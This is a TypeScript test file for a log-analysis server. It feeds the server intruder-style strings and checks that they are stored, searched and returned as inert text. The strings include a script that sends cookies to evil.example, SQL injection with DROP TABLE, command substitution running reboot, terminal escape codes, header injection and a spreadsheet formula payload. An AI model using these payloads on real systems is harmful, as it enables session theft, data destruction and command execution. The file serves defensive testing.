import { beforeAll, describe, expect, it } from 'vitest';
import { createClient } from '../../src/server/index.ts';
import { testServer } from '../../src/server/server.case.ts';
import { newAlert } from '../../src/store/cases/sample-alerts.case.ts';

const server = testServer();
const caracal = createClient('http://127.0.0.1', {
  fetch: (url, init) => {
    const { pathname, search } = new URL(url);
    const body = init.body === undefined ? {} : { body: init.body as string };
    return server.ask(init.method ?? 'GET', pathname + search, { as: 'analyst', ...body });
  },
});

/** Lines as an intruder would write them. */
const LINES = [
  `<script>fetch('//evil.example/'+document.cookie)</script>`,
  `<img src=x onerror=alert(1)>" onmouseover='alert(1)'`,
  `'; DROP TABLE records; --`,
  `' OR '1'='1' /* %' UNION SELECT hash FROM tokens -- */`,
  `100% of_all \\% \\_ rows`,
  `\u001b[2J\u001b]0;owned\u0007\u001b[31mred \u202Etxt.exe \u009b31m`,
  '{{constructor.constructor("alert(1)")()}} #{7*7} $(reboot) `reboot`',
  `</pre><iframe srcdoc="<script>alert(1)</script>">`,
  'line\r\nSet-Cookie: a=b\r\n\r\n<html>',
  `\u2028\u2029 \ud83d\ude00 =cmd|' /C calc'!A0`,
];

beforeAll(async () => {
  const source = await server.store.sources.open({ name: LINES[0] ?? '', kind: 'file', format: 'text' });
  await server.store.records.append(
    LINES.map((text, i) => ({
      ...{ source: source.id, sequence: i, time: 1000 + i, host: text, app: text, level: 6, template: 't1', text },
    })),
  );
  await server.store.alerts.upsert(
    LINES.map((text, i) =>
      newAlert({
        ...{ id: `a${i}`, time: 1000 + i, reason: text, entities: [{ kind: 'user', value: text }] },
        template: { id: `t${i}`, text, count: 1 },
      }),
    ),
  );
  await server.store.templates.save(LINES.map((text, i) => ({ id: `t${i}`, text, count: i, lastSeen: 1000 })));
});

describe('text of logs', () => {
  it('comes back as it was, in JSON that nothing takes for a page', async () => {
    const response = await server.ask('GET', '/api/v1/records', { as: 'viewer' });
    expect(response.headers.get('content-type')).toBe('application/json');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
    const text = await response.text();
    // JSON has no control characters of its own: terminals that show it run nothing.
    // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what must not be there
    expect(text).not.toMatch(/[\u0000-\u001f]/);
    expect((JSON.parse(text) as { items: { text: string }[] }).items.map((item) => item.text)).toEqual(
      [...LINES].reverse(),
    );
    expect((await caracal.alerts.page({ order: 'time' })).items.map(({ reason }) => reason)).toEqual(
      [...LINES].reverse(),
    );
  });

  it.each(LINES)('is only compared with, never run: %j', async (line) => {
    const at = LINES.indexOf(line);
    const found = await caracal.records.page({ text: line });
    expect(found.items.map(({ text }) => text)).toEqual([line]);
    expect((await caracal.records.page({ host: [line] })).items).toHaveLength(1);
    expect((await caracal.alerts.page({ text: line, user: line })).items.map(({ id }) => id)).toEqual([`a${at}`]);
    expect((await caracal.alerts.counts({ user: line })).total).toBe(1);
    expect((await caracal.templates.page({ text: line })).items.map(({ id }) => id)).toEqual([`t${at}`]);
    expect(await caracal.alerts.get(line).catch((error: unknown) => error)).toMatchObject({ status: 404 });
    expect(await caracal.records.page({ cursor: line }).catch((error: unknown) => error)).toMatchObject({
      status: 400,
    });
    expect((await server.store.records.page({})).items).toHaveLength(LINES.length);
  });

  it('takes wildcards of SQL for what they are', async () => {
    expect((await caracal.records.page({ text: '%' })).items).toHaveLength(2);
    expect((await caracal.records.page({ text: 'of_all' })).items).toHaveLength(1);
    expect((await caracal.records.page({ text: 'of%all' })).items).toHaveLength(0);
  });

  it('stays text in verdicts, receipts, the audit trail and problems', async () => {
    const reason = LINES.join(' ');
    const { items } = await caracal.verdicts.give({
      ...{ targets: [{ kind: 'alert', id: 'a0' }], verdict: 'false-positive', reason },
    });
    expect(items[0]?.reason).toBe(reason);
    expect((await caracal.suppressions.receipt({ user: LINES[3] ?? '' })).silenced).toBe(1);
    const trail = await server.ask('GET', '/api/v1/audit', { as: 'admin' });
    expect(((await trail.json()) as { items: { detail: { reason: string } }[] }).items[0]?.detail.reason).toBe(reason);
    const missing = await server.ask('GET', `/api/v1/alerts/${encodeURIComponent('<b>x</b>')}`, { as: 'viewer' });
    expect(missing.headers.get('content-type')).toBe('application/problem+json');
  });

  it('cannot break out of the metrics, nor of the events of the live stream', async () => {
    const status = server.service.status();
    const source = {
      ...{
        id: 1,
        name: 'a"\n\\caracal_up 0\n',
        kind: 'file',
        format: 'text',
        reason: '',
        lines: 1,
        drops: 0,
        malformed: 0,
      },
      ...{ withoutTime: 0, lastSeen: null, linesPerSecond: 0, silent: true, error: null },
    };
    const before = server.service.status;
    server.service.status = () => ({ ...status, sources: [source] });
    const metrics = await (await server.ask('GET', '/metrics', { as: 'viewer' })).text();
    expect(metrics).toContain('caracal_source_silent{source="a\\"\\n\\\\caracal_up 0\\n",kind="file"} 1\n');
    expect(metrics.split('\n').filter((line) => line.startsWith('caracal_up'))).toEqual(['caracal_up 1']);
    const stream = await server.ask('GET', '/api/v1/live/sse', { as: 'viewer' });
    const { value } = await (stream.body as ReadableStream<Uint8Array>).getReader().read();
    expect(new TextDecoder().decode(value).trimEnd().split('\n')).toHaveLength(3);
    server.service.status = before;
  });
});

describe('what broke', () => {
  it('is told to the log, and to the caller only by its id', async () => {
    const { templateValues } = server.service;
    server.service.templateValues = () => Promise.reject(new Error('SQLITE_ERROR at /var/lib/caracal/caracal.db'));
    const response = await server.ask('GET', '/api/v1/templates/t1/values', { as: 'viewer' });
    const text = await response.text();
    expect(response.status).toBe(500);
    expect(text).toMatch(/"instance":"urn:uuid:[0-9a-f-]{36}"/);
    expect(text).not.toMatch(/SQLITE|\/var|\.ts|node_modules/);
    expect(server.errors.map(String)).toEqual(['Error: SQLITE_ERROR at /var/lib/caracal/caracal.db']);
    server.service.templateValues = templateValues;
  });
});
